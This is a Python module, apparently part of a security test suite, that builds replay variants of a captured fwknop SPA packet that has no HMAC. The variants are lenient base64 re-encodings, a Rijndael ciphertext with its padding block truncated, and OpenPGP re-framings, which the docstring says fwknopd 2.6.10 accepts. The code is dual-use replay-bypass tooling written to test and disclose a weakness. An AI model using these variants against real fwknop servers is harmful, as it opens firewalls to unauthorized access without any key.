"""Variants of a captured SPA packet that a lenient receiver opens to the same message.

What an attacker who captured one packet (without HMAC) can send again as a
"new" packet, without any key:

* base64 re-encodings of the same bytes: ``=``, ``==`` or ``=AAAA`` appended
  (decoding stops at the first ``=``), the unused low bits of the last
  character set, a dangling last character (a length of 1 mod 4 is dropped),
  and for Rijndael the header bits of the first character (the receiver puts
  ``U2FsdGVkX1`` back and never checks the ``Salted__`` bytes);
* ciphertext variants: a Rijndael packet whose last block is all padding,
  without that block (libfko's padding removal is lenient);
* OpenPGP re-framings of a GnuPG packet: the encrypted-data packet with a
  five-byte length, a marker packet appended, zero bytes appended. GnuPG
  decrypts each to the same message.

The fwknopd 2.6.10 grants every one of them, except the zero bytes, which
GPGME refuses (tests/interop/test_reencoded_replays.py).
"""

from __future__ import annotations

from fwknop_core import b64s_decode, b64s_encode

__all__ = [
    "ALPHABET",
    "GPG_PREFIX",
    "RIJNDAEL_PREFIX",
    "gpg_reframings",
    "reencodings",
    "same_bytes",
    "truncated_padding",
]

RIJNDAEL_PREFIX = "U2FsdGVkX1"
GPG_PREFIX = "hQ"
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _decoded(wire: str, prefix: str) -> bytes:
    return b64s_decode((prefix + wire).encode("ascii"))


def reencodings(wire: str, prefix: str) -> dict[str, str]:
    """Every kind of base64 re-encoding this packet has, by name (the same bytes, new text).

    ``unused_bits`` exists when the text's length is 2 or 3 mod 4,
    ``dangling`` when it is 0 mod 4; ``header`` for Rijndael only (the GnuPG
    prefix ``hQ`` covers whole characters).
    """
    full = prefix + wire
    found = {"pad1": wire + "=", "pad2": wire + "==", "pad_junk": wire + "=AAAA"}
    if len(full) % 4 in (2, 3):
        found["unused_bits"] = wire[:-1] + ALPHABET[ALPHABET.index(wire[-1]) ^ 1]
    else:
        found["dangling"] = wire + "A"
    if prefix == RIJNDAEL_PREFIX:
        # the first wire character: 4 bits of "_" (1111), then 2 bits of the salt
        found["header"] = ALPHABET[ALPHABET.index(wire[0]) & 3] + wire[1:]
    return found


def truncated_padding(wire: str) -> str:
    """A Rijndael packet (no HMAC) without its last 16-byte block."""
    raw = _decoded(wire, RIJNDAEL_PREFIX)
    return b64s_encode(raw[:-16])[len(RIJNDAEL_PREFIX) :]


def _openpgp_packets(blob: bytes) -> list[tuple[int, bytes, bytes]]:
    """(tag, header, body) of each top-level OpenPGP packet (definite lengths only)."""
    packets = []
    i = 0
    while i < len(blob):
        ctb = blob[i]
        if ctb & 0x40:  # new format
            tag, first = ctb & 0x3F, blob[i + 1]
            if first < 192:
                head, length = 2, first
            elif first < 224:
                head, length = 3, ((first - 192) << 8) + blob[i + 2] + 192
            elif first == 255:
                head, length = 6, int.from_bytes(blob[i + 2 : i + 6], "big")
            else:
                raise ValueError("partial body lengths are not handled here")
        else:
            tag, head = (ctb >> 2) & 0x0F, {0: 2, 1: 3, 2: 5}[ctb & 3]
            length = int.from_bytes(blob[i + 1 : i + head], "big")
        packets.append((tag, blob[i : i + head], blob[i + head : i + head + length]))
        i += head + length
    return packets


def _gpg_wire(blob: bytes) -> str:
    text = b64s_encode(blob)
    assert text.startswith(GPG_PREFIX)
    return text[len(GPG_PREFIX) :]


def gpg_reframings(wire: str) -> dict[str, str]:
    """GnuPG packets with other OpenPGP framing around the same encrypted data, by name."""
    blob = _decoded(wire, GPG_PREFIX)
    reframed = b""
    for tag, head, body in _openpgp_packets(blob):
        if tag in (18, 20):  # (AEAD-)encrypted data: a five-byte length instead
            reframed += bytes((0xC0 | tag, 0xFF)) + len(body).to_bytes(4, "big") + body
        else:
            reframed += head + body
    return {
        "long_length": _gpg_wire(reframed),
        "marker": _gpg_wire(blob + b"\xca\x03PGP"),
        "zeros": _gpg_wire(blob + b"\x00\x00\x00"),
    }


def same_bytes(a: str, b: str, prefix: str) -> bool:
    """Whether two wire texts decode (leniently, as libfko does) to the same bytes."""
    return _decoded(a, prefix) == _decoded(b, prefix)
